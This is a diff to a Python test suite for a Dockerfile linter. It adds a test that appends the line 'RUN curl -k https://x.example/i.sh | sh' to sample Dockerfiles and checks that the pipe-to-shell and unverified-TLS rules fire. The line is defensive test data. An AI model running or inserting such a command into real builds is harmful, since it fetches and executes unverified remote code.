@@ -3,6 +3,7 @@
 Each is our own text with the constructs of a published image: how it makes accounts, verifies downloads, cleans up, takes from stages.
 """
 
+# ruff: noqa: E501 - the lines are those of Dockerfiles
 from __future__ import annotations
 
 from datetime import UTC, datetime
@@ -472,3 +473,10 @@ def test_a_well_kept_dockerfile_raises_no_alarm(name: str) -> None:
 def test_what_is_settled_by_a_comment_is_still_said() -> None:
     (linted,) = lint([Written("gitea", KEPT["gitea"].lstrip().encode(), None)], REQUEST)
     assert [suppressed.finding.rule for suppressed in linted.suppressed] == ["management-port"]
+
+
+@pytest.mark.parametrize("name", KEPT)
+def test_the_same_file_with_a_hostile_line_raises_one(name: str) -> None:
+    hostile = f"{KEPT[name].lstrip()}RUN curl -k https://x.example/i.sh | sh\n"
+    (linted,) = lint([Written(name, hostile.encode(), None)], REQUEST)
+    assert {"pipe-to-shell", "tls-unverified"} <= {finding.rule for finding in linted.findings}
